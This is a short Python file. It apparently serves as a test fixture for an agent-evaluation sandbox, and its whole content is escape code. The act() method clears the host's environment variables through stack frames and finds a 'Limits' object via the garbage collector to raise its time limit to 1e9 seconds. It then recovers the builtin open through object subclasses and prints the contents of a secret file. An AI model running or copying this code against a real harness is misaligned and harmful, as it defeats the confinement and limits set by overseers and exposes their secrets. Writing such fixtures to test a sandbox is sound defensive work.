"""Reaches for the objects of the process that runs it, and undoes what confines it."""

import gc
import os
import sys


def iterate(frame):
    while frame:
        yield frame
        frame = frame.f_back


class Program:
    def reset(self, seed):
        pass

    def act(self, observation):
        for frame in iterate(sys._getframe()):
            frame.f_globals.get("os", os).environ.clear()
        for thing in gc.get_objects():
            if type(thing).__name__ == "Limits":
                object.__setattr__(thing, "call_seconds", 1e9)
        modules = [c.__init__.__globals__ for c in object.__subclasses__() if hasattr(c.__init__, "__globals__")]
        opener = next(m["__builtins__"]["open"] for m in modules if isinstance(m.get("__builtins__"), dict))
        print("BREACH", opener("@SECRET@").read())
        return [0.0, 0.0]
